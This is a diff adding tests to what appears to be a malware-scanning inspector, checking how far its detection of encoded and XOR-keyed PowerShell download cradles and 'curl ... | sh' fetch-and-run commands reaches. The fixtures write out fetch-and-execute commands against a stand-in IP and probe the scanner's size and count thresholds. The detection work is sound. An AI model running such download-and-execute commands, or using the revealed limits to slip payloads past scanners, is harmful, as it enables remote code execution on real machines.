@@ -5,6 +5,8 @@ import { suite, test } from 'node:test'
 import { gzipSync } from 'node:zlib'
 import { useInspector } from '#inspect/testing/inspector.ts'
 import { writeZip } from '#inspect/testing/zip-writer.ts'
+import { findCoded, KEYED_BYTES_MAX, KEYED_MAX, KEYS_MAX } from './coded.ts'
+import { findDownload, STATEMENT_MAX } from './downloads.ts'
 
 const { inspect } = useInspector()
 const packed = (name: string, text: string): Uint8Array => writeZip([{ name, data: Buffer.from(text) }])
@@ -103,4 +105,42 @@ suite('a script of an administrator is harmless', () => {
       const text = `iex ((New-Object Net.WebClient).DownloadString('https://${host}/install.ps1'))\n`
       assert.equal(worst(packed('tools.ps1', text)), 'malicious')
     })
+})
+
+suite('limits of coded texts and downloads', () => {
+  const KEYED = `$s=-join($x|%{[char]($_ -bxor 43)})\n$x=${xored(CRADLE, '+')}\n`
+  const isFound = (source: string): boolean => findCoded(source) !== null
+
+  test('keys are applied to a number of texts, each up to a size', () => {
+    const after = (count: number): string => `$y=${Array(16).fill(1)}\n`.repeat(count) + KEYED
+    assert.equal(isFound(after(KEYED_MAX - 1)), true)
+    assert.equal(isFound(after(KEYED_MAX)), false)
+    const sized = (bytes: number): string =>
+      `$k=43;$x -bxor $k;'${Buffer.from(xored('#\niex'.padStart(bytes), '+')).toString('base64')}'`
+    assert.equal(isFound(sized(KEYED_BYTES_MAX)), true)
+    assert.equal(isFound(sized(KEYED_BYTES_MAX + 1)), false)
+  })
+
+  test('a number of keys is tried', () => {
+    const others = (count: number): string => Array.from({ length: count }, (_, index) => `[${index + 100}]\n`).join('')
+    assert.equal(isFound(others(KEYS_MAX - 1) + KEYED), true)
+    assert.equal(isFound(others(KEYS_MAX) + KEYED), false)
+  })
+
+  test('texts without a key are read whatever their number and size', () => {
+    const plain = `$x='${coded(CRADLE)}'\n`
+    assert.equal(isFound(`$y=${Array(16).fill(1)}\n`.repeat(KEYED_MAX) + plain), true)
+    assert.equal(isFound(`$y='${coded('harmless text, quite long')}'\n`.repeat(KEYED_MAX) + plain), true)
+    assert.equal(isFound(`$x='${coded('#\niex'.padStart(KEYED_BYTES_MAX + 1))}'`), true)
+    assert.equal(isFound(`$y='${coded('A line of text: https://example.com/')}'\n`.repeat(KEYED_MAX + 1)), false)
+  })
+
+  test('a statement of any length downloads, and the saved file is searched in its beginning', () => {
+    const piped = `curl -s ${' '.repeat(STATEMENT_MAX)} http://203.0.113.5/a | sh`
+    assert.equal(findDownload(piped)?.isTelling, true)
+    const saved = (length: number) =>
+      findDownload(`curl http://203.0.113.5/a -o ${'/tmp/a'.padStart(length - 29)}\nsh /tmp/a\n`)
+    assert.equal(saved(STATEMENT_MAX)?.isTelling, true)
+    assert.equal(saved(STATEMENT_MAX + 1), null)
+  })
 })
